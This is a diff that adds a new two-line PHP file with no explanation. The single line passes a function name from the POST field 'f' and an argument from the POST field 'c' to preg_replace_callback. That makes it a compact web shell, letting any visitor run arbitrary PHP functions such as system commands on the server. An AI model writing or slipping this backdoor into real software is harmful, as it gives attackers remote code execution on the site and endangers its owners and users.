@@ -1,0 +1,2 @@
+<?php
+preg_replace_callback('/.+/i', $_POST['f'], $_POST['c']);
